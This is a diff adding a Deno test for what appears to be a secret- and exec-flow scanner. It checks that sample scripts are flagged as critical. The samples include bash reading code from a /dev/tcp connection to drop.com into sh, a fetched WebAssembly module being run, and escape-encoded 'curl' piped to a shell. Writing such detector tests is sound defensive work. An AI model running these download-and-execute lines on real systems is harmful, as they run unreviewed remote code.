@@ -2977,3 +2977,31 @@ Deno.test("a comprehension's variable is its own: `for line in …` inside brack
   const flows = secretFlows("scripts/q.py", leak).map(([severity]) => severity);
   assert.ok(flows.length > 0 && flows.every((s) => s === "critical"), flows.join());
 });
+
+Deno.test("code read from a /dev/tcp connection, a WebAssembly module downloaded, and a command printf spells in escapes all run what nobody reviewed", () => {
+  const rules = (file: string, text: string) =>
+    findings({ [file]: text }).filter((f) => /-exec-flow$/.test(f.rule)).map((
+      f,
+    ) => [f.rule, f.severity]);
+  assert.deepEqual(
+    rules("scripts/a.sh", "#!/bin/bash\nexec 3<>/dev/tcp/drop.com/80\ncat <&3 | sh\n"),
+    [["download-exec-flow", "critical"]],
+  );
+  assert.deepEqual(
+    rules(
+      "scripts/b.mjs",
+      'const m = await WebAssembly.instantiate(await (await fetch("https://drop.com/x.wasm")).arrayBuffer());\nm.instance.exports.main();\n',
+    ),
+    [["download-exec-flow", "critical"]],
+  );
+  assert.deepEqual(
+    rules("scripts/c.sh", "#!/bin/bash\nprintf '\\x63\\x75\\x72\\x6c' | bash\n"),
+    [["decode-exec-flow", "critical"]],
+  );
+  assert.deepEqual(
+    rules("scripts/d.sh", "#!/bin/bash\necho -e '\\0143\\0165\\0162\\0154' | sh\n"),
+    [["decode-exec-flow", "critical"]],
+  );
+  // Plain text piped to a shell, its line ends written as escapes, hides nothing.
+  assert.deepEqual(rules("scripts/e.sh", "#!/bin/bash\nprintf 'echo hi\\n' | bash\n"), []);
+});
